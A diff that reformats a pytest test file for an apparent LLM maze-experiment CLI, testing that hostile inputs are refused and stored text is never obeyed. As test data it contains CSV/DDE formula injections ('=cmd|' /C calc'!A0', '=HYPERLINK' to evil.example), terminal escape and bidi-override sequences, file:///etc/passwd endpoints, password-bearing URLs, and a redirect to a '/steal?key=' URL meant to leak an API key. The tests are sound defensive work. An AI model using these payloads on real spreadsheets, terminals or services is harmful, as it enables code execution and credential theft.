@@ -43,10 +43,17 @@ def one_clean_line(output: str) -> str:
 
 # -- class 8: a rejected input is one line and no row -----------------------------------------------------------
 
-@pytest.mark.parametrize("args, message", [
-    (("--prompt", "nope"), "UnknownPromptVersion: no prompt at /oriole/prompts/nope: store it with"),
-    (("--comment", "a\x00b"), "InvalidExecutionInput: invalid execution input: comment: Value error, contains a NUL"),
-])
+
+@pytest.mark.parametrize(
+    "args, message",
+    [
+        (("--prompt", "nope"), "UnknownPromptVersion: no prompt at /oriole/prompts/nope: store it with"),
+        (
+            ("--comment", "a\x00b"),
+            "InvalidExecutionInput: invalid execution input: comment: Value error, contains a NUL",
+        ),
+    ],
+)
 def test_a_rejected_input_prints_one_line_and_leaves_no_row(cli, store, args, message):
     before = count_experiments(store)
     result = cli("run", "--agent", "random", "--maze", "perfect-7", *args)
@@ -60,20 +67,30 @@ def test_a_rejected_input_prints_one_line_and_leaves_no_row(cli, store, args, me
     assert count_experiments(store) == before
 
 
-@pytest.mark.parametrize("args, message", [
-    (("--provider", "ollama", "--model", "m", "--ollama-url", "file:///etc/passwd"),
-     "config.endpoint must be an http or https URL"),
-    (("--provider", "openai", "--model", "m", "--openai-url", "ftp://gpu-box/v1"),
-     "config.baseUrl must be an http or https URL"),
-    (("--agent", "random", "--config", "temperature=nan"), "config.temperature must be a finite number"),
-    (("--agent", "random", "--config", "requestTimeoutSeconds=1e300"), "must be at most 840"),
-    (("--agent", "random", "--max-moves", "0"), "'--max-moves': expects a whole number from 1 to 1,000,000; got '0'"),
-    (("--agent", "random", "--config", "maxMoves=0"), "config.maxMoves must be at least 1 (from 1 to 1000000)"),
-    (("--agent", "random", "--config", "maxMoves=\u0661\u0662"), "must be an integer from 1 to 1000000"),
-    (("--agent", "random", "--config", "maxMoves=1_000"), "must be an integer from 1 to 1000000"),
-    (("--agent", "random", "--config", "maxMoves=12.0"), "must be an integer from 1 to 1000000"),
-    (("--agent", "random", "--config", "seed=true"), "must be an integer from -1 to 2147483647"),
-])
+@pytest.mark.parametrize(
+    "args, message",
+    [
+        (
+            ("--provider", "ollama", "--model", "m", "--ollama-url", "file:///etc/passwd"),
+            "config.endpoint must be an http or https URL",
+        ),
+        (
+            ("--provider", "openai", "--model", "m", "--openai-url", "ftp://gpu-box/v1"),
+            "config.baseUrl must be an http or https URL",
+        ),
+        (("--agent", "random", "--config", "temperature=nan"), "config.temperature must be a finite number"),
+        (("--agent", "random", "--config", "requestTimeoutSeconds=1e300"), "must be at most 840"),
+        (
+            ("--agent", "random", "--max-moves", "0"),
+            "'--max-moves': expects a whole number from 1 to 1,000,000; got '0'",
+        ),
+        (("--agent", "random", "--config", "maxMoves=0"), "config.maxMoves must be at least 1 (from 1 to 1000000)"),
+        (("--agent", "random", "--config", "maxMoves=\u0661\u0662"), "must be an integer from 1 to 1000000"),
+        (("--agent", "random", "--config", "maxMoves=1_000"), "must be an integer from 1 to 1000000"),
+        (("--agent", "random", "--config", "maxMoves=12.0"), "must be an integer from 1 to 1000000"),
+        (("--agent", "random", "--config", "seed=true"), "must be an integer from -1 to 2147483647"),
+    ],
+)
 def test_a_bad_setting_on_the_command_line_is_refused_before_anything_starts(cli, store, args, message):
     before = count_experiments(store)
     result = cli("run", "--maze", "perfect-7", *args)
@@ -89,17 +106,27 @@ PROVIDER_ERROR = "bad model \x1b]0;pwned\x07\x1b[2J\x9b1m [/] [bold]x \u202eexe"
 
 def test_markup_and_escape_sequences_in_stored_text_are_shown_never_obeyed(cli, store, database_url):
     with ScriptedOllama(error(400, PROVIDER_ERROR)) as server:
-        result = cli("run", "--maze", "perfect-7", "--provider", "ollama", "--model", MARKUP_MODEL, "--ollama-url",
-                     server.url)
+        result = cli(
+            "run", "--maze", "perfect-7", "--provider", "ollama", "--model", MARKUP_MODEL, "--ollama-url", server.url
+        )
     assert result.exit_code == 1, result.output
     assert MARKUP_MODEL in result.output and "\\x1b]0;pwned\\x07\\x1b[2J\\x9b1m [/] [bold]x \\u202eexe" in result.output
     experiment_id = store.conn.execute("SELECT max(id) AS id FROM experiments").fetchone()["id"]
-    zombie = experiments.start({"input": {"mazeId": "perfect-7", "llmProvider": "ollama", "modelName": MARKUP_MODEL},
-                                "executionArn": EXECUTION_PREFIX + "hostile-markup"}, store,
-                               lambda names: catalog.defaults())
+    zombie = experiments.start(
+        {
+            "input": {"mazeId": "perfect-7", "llmProvider": "ollama", "modelName": MARKUP_MODEL},
+            "executionArn": EXECUTION_PREFIX + "hostile-markup",
+        },
+        store,
+        lambda names: catalog.defaults(),
+    )
     outputs = [result.output]
-    for args in (("status", str(experiment_id)), ("report", "--model", MARKUP_MODEL, "--wide"), ("doctor",),
-                 ("doctor", "--fix")):
+    for args in (
+        ("status", str(experiment_id)),
+        ("report", "--model", MARKUP_MODEL, "--wide"),
+        ("doctor",),
+        ("doctor", "--fix"),
+    ):
         shown = cli(*args)
         assert shown.exit_code == 0, shown.output
         outputs.append(shown.output)
@@ -112,8 +139,19 @@ def test_markup_and_escape_sequences_in_stored_text_are_shown_never_obeyed(cli, 
 def test_a_csv_report_writes_no_formula(cli):
     model = '=HYPERLINK("http://evil.example","click")'
     with ScriptedOllama(tool_calls(("move_east", {}))) as server:
-        ran = cli("run", "--maze", "perfect-7", "--provider", "ollama", "--model", model, "--ollama-url", server.url,
-                  "--max-moves", "1")
+        ran = cli(
+            "run",
+            "--maze",
+            "perfect-7",
+            "--provider",
+            "ollama",
+            "--model",
+            model,
+            "--ollama-url",
+            server.url,
+            "--max-moves",
+            "1",
+        )
     assert ran.exit_code == 0, ran.output
     report = cli("report", "--model", model, "--format", "csv")
     [row] = csv.DictReader(io.StringIO(report.stdout, newline=""))
@@ -122,13 +160,22 @@ def test_a_csv_report_writes_no_formula(cli):
 
 # -- class 2: params set --aws refuses what a start would refuse -----------------------------------------------------
 
-@pytest.mark.parametrize("key, value, message", [
-    ("temperature", "nan", "finite"), ("temperature", "inf", "finite"),
-    ("requestTimeoutSeconds", "1e300", "at most 840"), ("maxDurationMinutes", "-inf", "finite"),
-    ("maxMoves", "99999999999", "at most 1000000"), ("seed", "2147483648", "at most 2147483647"),
-    ("numCtx", "-1", "at least 256"), ("endpoint", "file:///etc/passwd", "http or https URL"),
-    ("endpoint", "http://ollama:11434/\x1b[2J", "without spaces"), ("goalCondition", "teleport", "one of reach"),
-])
+
+@pytest.mark.parametrize(
+    "key, value, message",
+    [
+        ("temperature", "nan", "finite"),
+        ("temperature", "inf", "finite"),
+        ("requestTimeoutSeconds", "1e300", "at most 840"),
+        ("maxDurationMinutes", "-inf", "finite"),
+        ("maxMoves", "99999999999", "at most 1000000"),
+        ("seed", "2147483648", "at most 2147483647"),
+        ("numCtx", "-1", "at least 256"),
+        ("endpoint", "file:///etc/passwd", "http or https URL"),
+        ("endpoint", "http://ollama:11434/\x1b[2J", "without spaces"),
+        ("goalCondition", "teleport", "one of reach"),
+    ],
+)
 def test_params_set_with_aws_refuses_a_value_a_start_would_refuse(cli, monkeypatch, key, value, message):
     monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
     with mock_aws():
@@ -148,11 +195,15 @@ def test_params_set_with_aws_stores_a_good_endpoint(cli, monkeypatch):
 
 # -- class 8: prompt files -------------------------------------------------------------------------------------------
 
-@pytest.mark.parametrize("content, message", [
-    ("Trouvez la sortie. Café.".encode("latin-1"), "is not UTF-8 text (byte 0xe9 at offset 22)"),
-    (b"Find the goal.\x00", "the prompt contains a NUL character"),
-    (b"\xff\xfe" + "Find the goal.".encode("utf-16-le"), "is not UTF-8 text (byte 0xff at offset 0)"),
-])
+
+@pytest.mark.parametrize(
+    "content, message",
+    [
+        ("Trouvez la sortie. Café.".encode("latin-1"), "is not UTF-8 text (byte 0xe9 at offset 22)"),
+        (b"Find the goal.\x00", "the prompt contains a NUL character"),
+        (b"\xff\xfe" + "Find the goal.".encode("utf-16-le"), "is not UTF-8 text (byte 0xff at offset 0)"),
+    ],
+)
 def test_a_prompt_file_that_cannot_be_stored_is_refused_with_one_line(cli, tmp_path, content, message):
     path = tmp_path / "prompt.md"
     path.write_bytes(content)
@@ -172,6 +223,7 @@ def test_a_prompt_file_edited_into_another_encoding_is_named_not_a_traceback(cli
 
 # -- class 6: sweeps ------------------------------------------------------------------------------------------------
 
+
 def test_a_sweep_whose_every_experiment_is_rejected_exits_non_zero(cli, store, tmp_path, monkeypatch):
     """What only StartExperiment knows (here, a deployment's allowed endpoints) rejects each experiment."""
     monkeypatch.setenv("ORIOLE_OLLAMA_ENDPOINTS", '["https://ollama.example.org"]')
@@ -185,32 +237,44 @@ def test_a_sweep_whose_every_experiment_is_rejected_exits_non_zero(cli, store, t
 
 
 @pytest.mark.parametrize("dry_run", [(), ("--dry-run",)])
-def test_a_sweep_on_a_prompt_no_experiment_could_take_is_refused_before_anything_starts(cli, store, tmp_path,
-                                                                                       dry_run):
+def test_a_sweep_on_a_prompt_no_experiment_could_take_is_refused_before_anything_starts(cli, store, tmp_path, dry_run):
     (tmp_path / "prompts").mkdir(exist_ok=True)
     (tmp_path / "prompts" / "edited.md").write_text("Find the goal.\x00 (edited by hand)")  # passes the file check
     path = tmp_path / "sweep.toml"
-    path.write_text('id = "hostile-prompt"\nagents = ["baseline/oracle"]\nmazes = ["perfect-7"]\n'
-                    'prompts = ["edited"]\n')
+    path.write_text(
+        'id = "hostile-prompt"\nagents = ["baseline/oracle"]\nmazes = ["perfect-7"]\nprompts = ["edited"]\n'
+    )
     before = count_experiments(store)
     result = cli("sweep", str(path), "--quiet", *dry_run)
     assert result.exit_code == 2 and "prompt version edited contains a NUL" in one_clean_line(result.output)
     assert count_experiments(store) == before
 
 
-@pytest.mark.parametrize("content, message", [
-    (b'id = "d"\nagents = ["baseline/oracle"]\nmazes = ["perfect-7", 101]\n', "comes out twice"),
-    (b'id = "d"\nagents = ["baseline/oracle"]\nmazes = ["perfect-7"]\ncomment = "caf\xe9"\n', "not UTF-8 text"),
-    (b'id = "d"\nagents = ["baseline/oracle"]\nmazes = ["perfect-7"]\nprompts = ["v404"]\n', "v404 not found"),
-    (b'id = "d"\nagents = ["baseline/oracle"]\nmazes = ["perfect-7"]\nconcurrency = 0\n', "concurrency"),
-    (b'id = "d"\nagents = ["baseline/oracle"]\nmazes = ["perfect-11@07", "perfect-11@7"]\n', "comes out twice"),
-    (b'id = "d"\nagents = ["ollama/q"]\nmazes = ["perfect-7"]\ngrid = { temperature = [0.0, -0.0] }\n',
-     "comes out twice"),
-    (b'id = "d"\nagents = ["baseline/oracle"]\nmazes = ["perfect-7"]\ncomment = "' + b"x" * 900 + b'"\n'
-     + b"".join(b'[[configs]]\nseed = %d\n' % i for i in range(5000)), "larger than 65,536"),
-    (b'id = "d"\nagents = ["baseline/oracle"]\nmazes = [{ family = "sparse", size = 201, samples = 1000 }]\n',
-     "more than 2,000,000 tiles"),
-])
+@pytest.mark.parametrize(
+    "content, message",
+    [
+        (b'id = "d"\nagents = ["baseline/oracle"]\nmazes = ["perfect-7", 101]\n', "comes out twice"),
+        (b'id = "d"\nagents = ["baseline/oracle"]\nmazes = ["perfect-7"]\ncomment = "caf\xe9"\n', "not UTF-8 text"),
+        (b'id = "d"\nagents = ["baseline/oracle"]\nmazes = ["perfect-7"]\nprompts = ["v404"]\n', "v404 not found"),
+        (b'id = "d"\nagents = ["baseline/oracle"]\nmazes = ["perfect-7"]\nconcurrency = 0\n', "concurrency"),
+        (b'id = "d"\nagents = ["baseline/oracle"]\nmazes = ["perfect-11@07", "perfect-11@7"]\n', "comes out twice"),
+        (
+            b'id = "d"\nagents = ["ollama/q"]\nmazes = ["perfect-7"]\ngrid = { temperature = [0.0, -0.0] }\n',
+            "comes out twice",
+        ),
+        (
+            b'id = "d"\nagents = ["baseline/oracle"]\nmazes = ["perfect-7"]\ncomment = "'
+            + b"x" * 900
+            + b'"\n'
+            + b"".join(b"[[configs]]\nseed = %d\n" % i for i in range(5000)),
+            "larger than 65,536",
+        ),
+        (
+            b'id = "d"\nagents = ["baseline/oracle"]\nmazes = [{ family = "sparse", size = 201, samples = 1000 }]\n',
+            "more than 2,000,000 tiles",
+        ),
+    ],
+)
 def test_a_hostile_sweep_file_is_one_line_and_starts_nothing(cli, store, tmp_path, content, message):
     path = tmp_path / "sweep.toml"
     path.write_bytes(content)
@@ -240,10 +304,19 @@ def every_stored_text(store) -> str:
     columns = store.conn.execute(
         "SELECT c.table_name, c.column_name FROM information_schema.columns c JOIN information_schema.tables t "
         "USING (table_schema, table_name) WHERE c.table_schema = 'public' AND t.table_type = 'BASE TABLE' "
-        "AND c.data_type IN ('text', 'jsonb', 'json', 'character varying', 'ARRAY')").fetchall()
+        "AND c.data_type IN ('text', 'jsonb', 'json', 'character varying', 'ARRAY')"
+    ).fetchall()
     assert {"failure_reason", "response", "reasoning", "request_messages"} <= {c["column_name"] for c in columns}
-    return " ".join(str(store.conn.execute(sql.SQL("SELECT string_agg({}::text, ' ') AS t FROM {}").format(
-        sql.Identifier(c["column_name"]), sql.Identifier(c["table_name"]))).fetchone()["t"]) for c in columns)
+    return " ".join(
+        str(
+            store.conn.execute(
+                sql.SQL("SELECT string_agg({}::text, ' ') AS t FROM {}").format(
+                    sql.Identifier(c["column_name"]), sql.Identifier(c["table_name"])
+                )
+            ).fetchone()["t"]
+        )
+        for c in columns
+    )
 
 
 @pytest.fixture
@@ -258,16 +331,26 @@ def secret_keys(monkeypatch):
 
 def openai_echoes(other_url: str) -> dict[str, list]:
     """Hostile OpenAI-compatible answers, each quoting the key the request carried."""
-    echo = json.dumps({"error": {"message": f"Incorrect API key provided: Bearer {SECRET}", "type": "auth",
-                                 "code": "invalid_api_key"}}).encode()
+    echo = json.dumps(
+        {
+            "error": {
+                "message": f"Incorrect API key provided: Bearer {SECRET}",
+                "type": "auth",
+                "code": "invalid_api_key",
+            }
+        }
+    ).encode()
     return {
         "401 echo": [(401, echo)],
         "redirect to another host": [(307, echo, {"Location": f"{other_url}/steal?key={SECRET}"})],
         "5xx echo": [(503, f"Authorization: Bearer {SECRET}".encode())] * 9,
         "body not JSON": [(200, f"Authorization: Bearer {SECRET}".encode())],
         "bad status line": [trickle(0, [f"HTTP/1.1 2 Bearer {SECRET}\r\n\r\n".encode()])] * 9,
-        "answer echo": [openai_calls(("move_east", {"reasoning": SECRET}), content=SECRET, reasoning_content=SECRET),
-                        openai_text(f"my key is {SECRET}"), openai_calls(("move_west", {"reasoning": SECRET}))],
+        "answer echo": [
+            openai_calls(("move_east", {"reasoning": SECRET}), content=SECRET, reasoning_content=SECRET),
+            openai_text(f"my key is {SECRET}"),
+            openai_calls(("move_west", {"reasoning": SECRET})),
+        ],
     }
 
 
@@ -276,21 +359,46 @@ def test_no_key_reaches_a_row_or_a_printed_line_whatever_a_server_echoes(cli, st
     with ScriptedOpenAI() as elsewhere:
         for name, script in openai_echoes(elsewhere.url).items():
             with ScriptedOpenAI(*script, api_key=SECRET) as server:
-                result = cli("run", "--maze", "perfect-7", "--provider", "openai", "--model", "m", "--openai-url",
-                             server.base_url, "--config", "requestTimeoutSeconds=1", "--max-moves", "2",
-                             "--comment", name)
-                assert server.requests and all(r.headers["authorization"] == f"Bearer {SECRET}"
-                                               for r in server.requests)
+                result = cli(
+                    "run",
+                    "--maze",
+                    "perfect-7",
+                    "--provider",
+                    "openai",
+                    "--model",
+                    "m",
+                    "--openai-url",
+                    server.base_url,
+                    "--config",
+                    "requestTimeoutSeconds=1",
+                    "--max-moves",
+                    "2",
+                    "--comment",
+                    name,
+                )
+                assert server.requests and all(
+                    r.headers["authorization"] == f"Bearer {SECRET}" for r in server.requests
+                )
             assert result.exit_code in (0, 1), (name, result.output)
             printed.append(result.output)
         assert elsewhere.requests == []  # the redirect was not followed: the key went nowhere else
-    with ScriptedOllama(tool_calls(("move_east", {"reasoning": SECRET}), content=SECRET, thinking=SECRET),
-                        ollama_text(SECRET), error(401, f"key {SECRET} refused")) as server:
-        printed.append(cli("run", "--maze", "perfect-7", "--provider", "ollama", "--model", "m", "--ollama-url",
-                           server.url).output)
+    with ScriptedOllama(
+        tool_calls(("move_east", {"reasoning": SECRET}), content=SECRET, thinking=SECRET),
+        ollama_text(SECRET),
+        error(401, f"key {SECRET} refused"),
+    ) as server:
+        printed.append(
+            cli("run", "--maze", "perfect-7", "--provider", "ollama", "--model", "m", "--ollama-url", server.url).output
+        )
     newest = store.conn.execute("SELECT max(id) AS id FROM experiments").fetchone()["id"]
-    for args in (("status", str(newest), "--json"), ("ls", "--json"), ("ls",), ("report", "--format", "csv"),
-                 ("report", "--format", "json"), ("doctor", "--json")):
+    for args in (
+        ("status", str(newest), "--json"),
+        ("ls", "--json"),
+        ("ls",),
+        ("report", "--format", "csv"),
+        ("report", "--format", "json"),
+        ("doctor", "--json"),
+    ):
         printed.append(cli(*args).output)
     assert cli("export", "--format", "jsonl", "-o", str(tmp_path / "export")).exit_code == 0
     printed += [path.read_text() for path in (tmp_path / "export").iterdir()]
@@ -299,11 +407,14 @@ def test_no_key_reaches_a_row_or_a_printed_line_whatever_a_server_echoes(cli, st
     assert SECRET not in shown and SECRET not in every_stored_text(store)
 
 
-@pytest.mark.parametrize("args", [
-    ("--provider", "openai", "--model", "m", "--openai-url", f"http://lab:{SECRET}@127.0.0.1:8000/v1"),
-    ("--provider", "ollama", "--model", "m", "--ollama-url", f"http://{SECRET}@127.0.0.1:11434"),
-    ("--provider", "ollama", "--model", "m", "--config", f"endpoint=http://x:{SECRET}@127.0.0.1\\@evil"),
-])
+@pytest.mark.parametrize(
+    "args",
+    [
+        ("--provider", "openai", "--model", "m", "--openai-url", f"http://lab:{SECRET}@127.0.0.1:8000/v1"),
+        ("--provider", "ollama", "--model", "m", "--ollama-url", f"http://{SECRET}@127.0.0.1:11434"),
+        ("--provider", "ollama", "--model", "m", "--config", f"endpoint=http://x:{SECRET}@127.0.0.1\\@evil"),
+    ],
+)
 def test_a_url_with_a_password_is_refused_in_one_line_that_never_quotes_it(cli, store, args):
     before = count_experiments(store)
     result = cli("run", "--maze", "perfect-7", *args)
@@ -326,8 +437,17 @@ def test_an_api_key_no_header_can_carry_is_refused_at_start_in_one_line(cli, sto
     agents.api_key.cache_clear()
     before = count_experiments(store)
     try:
-        result = cli("run", "--maze", "perfect-7", "--provider", "openai", "--model", "m", "--openai-url",
-                     "http://127.0.0.1:1/v1")
+        result = cli(
+            "run",
+            "--maze",
+            "perfect-7",
+            "--provider",
+            "openai",
+            "--model",
+            "m",
+            "--openai-url",
+            "http://127.0.0.1:1/v1",
+        )
     finally:
         agents.api_key.cache_clear()
     line = one_clean_line(result.output)
@@ -337,23 +457,30 @@ def test_an_api_key_no_header_can_carry_is_refused_at_start_in_one_line(cli, sto
 
 # -- issue 26, class 4: a number on the command line is a number, within a range the refusal states -----------------
 
-@pytest.mark.parametrize("args, message", [
-    (("watch", "\u0661"), "'EXPERIMENT': expects a whole number from 1 to 9,223,372,036,854,775,807"),
-    (("watch", "0"), "'EXPERIMENT': expects a whole number from 1 to 9,223,372,036,854,775,807"),
-    (("watch", "9" * 30), "'EXPERIMENT': expects a whole number from 1 to 9,223,372,036,854,775,807"),
-    (("watch", "1", "--interval", "nan"), "'--interval': expects a number from 0.01 to 3600"),
-    (("watch", "1", "--interval", "1e308"), "'--interval': expects a number from 0.01 to 3600"),
-    (("watch", "1", "--interval", "\uff12"), "'--interval': expects a number from 0.01 to 3600"),
-    (("render", "1.0"), "'EXPERIMENT': expects a whole number from 1"),
-    (("render", "--", "-5"), "'EXPERIMENT': expects a whole number from 1"),
-    (("status", "99999999999999999999"), "an experiment id is a whole number from 1 to 9,223,372,036,854,775,807"),
-    (("ls", "--limit", "1_0"), "'--limit': expects a whole number from 0 to 1,000,000"),
-    (("run", "--agent", "random", "--max-moves", "\u0967\u0966"), "'--max-moves': expects a whole number from 1 to "),
-    (("sweep", "x.toml", "--concurrency", "true"), "'--concurrency': expects a whole number from 1 to 1,000"),
-    (("sweep", "x.toml", "--wait-seconds", "3601"), "'--wait-seconds': expects a whole number from 1 to 3,600"),
-    (("sweep", "x.toml", "--provider-concurrency", "baseline=\u0663"), "N from 1 to 1000"),
-    (("mazes", "import", "x.txt", "--start", "\u0661,2"), "two whole numbers from 0 to 200"),
-])
+
+@pytest.mark.parametrize(
+    "args, message",
+    [
+        (("watch", "\u0661"), "'EXPERIMENT': expects a whole number from 1 to 9,223,372,036,854,775,807"),
+        (("watch", "0"), "'EXPERIMENT': expects a whole number from 1 to 9,223,372,036,854,775,807"),
+        (("watch", "9" * 30), "'EXPERIMENT': expects a whole number from 1 to 9,223,372,036,854,775,807"),
+        (("watch", "1", "--interval", "nan"), "'--interval': expects a number from 0.01 to 3600"),
+        (("watch", "1", "--interval", "1e308"), "'--interval': expects a number from 0.01 to 3600"),
+        (("watch", "1", "--interval", "\uff12"), "'--interval': expects a number from 0.01 to 3600"),
+        (("render", "1.0"), "'EXPERIMENT': expects a whole number from 1"),
+        (("render", "--", "-5"), "'EXPERIMENT': expects a whole number from 1"),
+        (("status", "99999999999999999999"), "an experiment id is a whole number from 1 to 9,223,372,036,854,775,807"),
+        (("ls", "--limit", "1_0"), "'--limit': expects a whole number from 0 to 1,000,000"),
+        (
+            ("run", "--agent", "random", "--max-moves", "\u0967\u0966"),
+            "'--max-moves': expects a whole number from 1 to ",
+        ),
+        (("sweep", "x.toml", "--concurrency", "true"), "'--concurrency': expects a whole number from 1 to 1,000"),
+        (("sweep", "x.toml", "--wait-seconds", "3601"), "'--wait-seconds': expects a whole number from 1 to 3,600"),
+        (("sweep", "x.toml", "--provider-concurrency", "baseline=\u0663"), "N from 1 to 1000"),
+        (("mazes", "import", "x.txt", "--start", "\u0661,2"), "two whole numbers from 0 to 200"),
+    ],
+)
 def test_a_number_on_the_command_line_is_refused_in_one_line_that_says_the_range(cli, tmp_path, args, message):
     (tmp_path / "x.toml").write_text('id = "n"\nagents = ["baseline/oracle"]\nmazes = ["perfect-7"]\n')
     (tmp_path / "x.txt").write_text("S.G\n")
@@ -364,9 +491,15 @@ def test_a_number_on_the_command_line_is_refused_in_one_line_that_says_the_range
 
 # -- issue 26, class 6: every place that shows stored text shows it, never obeys it ---------------------------------
 
-OBEYED = ["\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x1b[2J\x1b[3J\x1bc", "\x9d0;title\x9c",
-          "\u202e\u2066\u2067\u2068\u2069\u061c\u200e", "\u200b\ufeff\u2028\u2029\xad", "\U000e0041\U000e007f",
-          "\x07\x08\x7f\r"]
+OBEYED = [
+    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
+    "\x1b[2J\x1b[3J\x1bc",
+    "\x9d0;title\x9c",
+    "\u202e\u2066\u2067\u2068\u2069\u061c\u200e",
+    "\u200b\ufeff\u2028\u2029\xad",
+    "\U000e0041\U000e007f",
+    "\x07\x08\x7f\r",
+]
 HOSTILE_TEXT = "mo" + "".join(OBEYED) + "del"
 RAW = re.compile(f"(?![\t\n\r])[{display.OBEYED}]")  # CSV ends its rows with CR LF
 
@@ -374,21 +507,56 @@ RAW = re.compile(f"(?![\t\n\r])[{display.OBEYED}]")  # CSV ends its rows with CR
 def test_stored_text_is_shown_and_never_obeyed_in_every_output(cli, store, tmp_path):
     path = moves_on("perfect-7")
     reasoning = "=cmd|' /C calc'!A0 " + HOSTILE_TEXT
-    with ScriptedOllama(tool_calls(*[(m, {"reasoning": reasoning}) for m in path], content=HOSTILE_TEXT,
-                                   thinking=HOSTILE_TEXT), ollama_text(HOSTILE_TEXT)) as server:
-        ran = cli("run", "--maze", "perfect-7", "--provider", "ollama", "--model", "m\u202eevil",
-                  "--ollama-url", server.url, "--comment", "@SUM(1) " + HOSTILE_TEXT)
+    with ScriptedOllama(
+        tool_calls(*[(m, {"reasoning": reasoning}) for m in path], content=HOSTILE_TEXT, thinking=HOSTILE_TEXT),
+        ollama_text(HOSTILE_TEXT),
+    ) as server:
+        ran = cli(
+            "run",
+            "--maze",
+            "perfect-7",
+            "--provider",
+            "ollama",
+            "--model",
+            "m\u202eevil",
+            "--ollama-url",
+            server.url,
+            "--comment",
+            "@SUM(1) " + HOSTILE_TEXT,
+        )
     assert ran.exit_code == 2 and "control character U+202E" in ran.output  # a name never holds one
-    with ScriptedOllama(tool_calls(*[(m, {"reasoning": reasoning}) for m in path], content=HOSTILE_TEXT,
-                                   thinking=HOSTILE_TEXT), ollama_text(HOSTILE_TEXT)) as server:
-        ran = cli("run", "--maze", "perfect-7", "--provider", "ollama", "--model", "=HYPERLINK(1)",
-                  "--ollama-url", server.url, "--comment", "@SUM(1) " + HOSTILE_TEXT)
+    with ScriptedOllama(
+        tool_calls(*[(m, {"reasoning": reasoning}) for m in path], content=HOSTILE_TEXT, thinking=HOSTILE_TEXT),
+        ollama_text(HOSTILE_TEXT),
+    ) as server:
+        ran = cli(
+            "run",
+            "--maze",
+            "perfect-7",
+            "--provider",
+            "ollama",
+            "--model",
+            "=HYPERLINK(1)",
+            "--ollama-url",
+            server.url,
+            "--comment",
+            "@SUM(1) " + HOSTILE_TEXT,
+        )
     assert ran.exit_code == 0, ran.output
     experiment = store.conn.execute("SELECT max(id) AS id FROM experiments").fetchone()["id"]
     outputs = {"run": ran.output}
-    for args in (("status", str(experiment)), ("status", str(experiment), "--json"), ("ls",), ("ls", "--json"),
-                 ("watch", str(experiment)), ("report",), ("report", "--format", "json"),
-                 ("report", "--format", "csv"), ("report", "--format", "html"), ("doctor",)):
+    for args in (
+        ("status", str(experiment)),
+        ("status", str(experiment), "--json"),
+        ("ls",),
+        ("ls", "--json"),
+        ("watch", str(experiment)),
+        ("report",),
+        ("report", "--format", "json"),
+        ("report", "--format", "csv"),
+        ("report", "--format", "html"),
+        ("doctor",),
+    ):
         result = cli(*args)
         assert result.exit_code == 0, (args, result.output)
         outputs[" ".join(args)] = result.output
@@ -400,6 +568,7 @@ def test_stored_text_is_shown_and_never_obeyed_in_every_output(cli, store, tmp_p
     assert len(outputs) > 15
     for where, output in outputs.items():
         assert not RAW.findall(output), where
+
     def exported(table: str) -> list[dict]:
         rows = csv.DictReader(io.StringIO(outputs[str(tmp_path / "csv" / f"{table}.csv")], newline=""))
         return [row for row in rows if row["experiment_id"] == str(experiment)]
@@ -452,6 +621,7 @@ def test_a_prompt_version_that_looks_like_an_id_or_is_taken_is_refused_by_name(c
 
 # -- issue 26, class 7: no traceback anywhere --------------------------------------------------------------------------
 
+
 @pytest.fixture
 def odd_paths(tmp_path):
     """A FIFO (reading one would wait for a writer forever), a folder, and files of hostile JSON."""
@@ -459,42 +629,49 @@ def odd_paths(tmp_path):
 
     os.mkfifo(tmp_path / "pipe.toml")
     (tmp_path / "folder.json").mkdir()
-    (tmp_path / "deep.json").write_text('{"id": "d", "agents": ["baseline/oracle"], "mazes": ' + "[" * 100 + "]" * 100
-                                        + "}")
+    (tmp_path / "deep.json").write_text(
+        '{"id": "d", "agents": ["baseline/oracle"], "mazes": ' + "[" * 100 + "]" * 100 + "}"
+    )
     (tmp_path / "deep-maze.json").write_text('{"grid": ' + "[" * 200_000 + "]" * 200_000 + "}")
     (tmp_path / "long-number.json").write_text('{"grid": [[1' + "0" * 5000 + "]]}")
     (tmp_path / "sweep.toml").write_text('id = "d"\nagents = ["baseline/oracle"]\nmazes = ["perfect-7"]\n')
     return tmp_path
 
 
-@pytest.mark.parametrize("args, message", [
-    (("sweep", "/dev/zero"), "/dev/zero is a device or socket, not a regular file: nothing was read"),
-    (("sweep", "{tmp}/pipe.toml"), "pipe.toml is a pipe, not a regular file"),
-    (("sweep", "{tmp}/folder.json"), "folder.json is a folder, not a regular file"),
-    (("sweep", "{tmp}/deep.json", "--dry-run"), "is not valid JSON: nested deeper than 64 levels"),
-    (("prompts", "put", "v9", "--file", "/dev/zero"), "is a device or socket, not a regular file"),
-    (("prompts", "put", "v9", "--file", "{tmp}/pipe.toml"), "is a pipe, not a regular file"),
-    (("mazes", "import", "/dev/urandom"), "is a device or socket, not a regular file"),
-    (("mazes", "import", "{tmp}/deep-maze.json"), "is not valid JSON: nested too deeply"),
-    (("mazes", "import", "{tmp}/long-number.json"), "is not valid JSON: a number of 5,001 digits (at most 100)"),
-    (("report", "-o", "{tmp}/folder.json"), "folder.json: Is a directory"),
-    (("report", "-o", "/dev/null/report.txt"), "cannot write /dev/null/report.txt: Not a directory"),
-    (("report", "--format", "html", "-o", "/proc/version"), "cannot write /proc/version: "),
-    (("export", "--format", "csv", "-o", "{tmp}/sweep.toml"), "is not a folder"),
-    (("render", "1", "-o", "/dev/null/x.png"), ""),
-])
+@pytest.mark.parametrize(
+    "args, message",
+    [
+        (("sweep", "/dev/zero"), "/dev/zero is a device or socket, not a regular file: nothing was read"),
+        (("sweep", "{tmp}/pipe.toml"), "pipe.toml is a pipe, not a regular file"),
+        (("sweep", "{tmp}/folder.json"), "folder.json is a folder, not a regular file"),
+        (("sweep", "{tmp}/deep.json", "--dry-run"), "is not valid JSON: nested deeper than 64 levels"),
+        (("prompts", "put", "v9", "--file", "/dev/zero"), "is a device or socket, not a regular file"),
+        (("prompts", "put", "v9", "--file", "{tmp}/pipe.toml"), "is a pipe, not a regular file"),
+        (("mazes", "import", "/dev/urandom"), "is a device or socket, not a regular file"),
+        (("mazes", "import", "{tmp}/deep-maze.json"), "is not valid JSON: nested too deeply"),
+        (("mazes", "import", "{tmp}/long-number.json"), "is not valid JSON: a number of 5,001 digits (at most 100)"),
+        (("report", "-o", "{tmp}/folder.json"), "folder.json: Is a directory"),
+        (("report", "-o", "/dev/null/report.txt"), "cannot write /dev/null/report.txt: Not a directory"),
+        (("report", "--format", "html", "-o", "/proc/version"), "cannot write /proc/version: "),
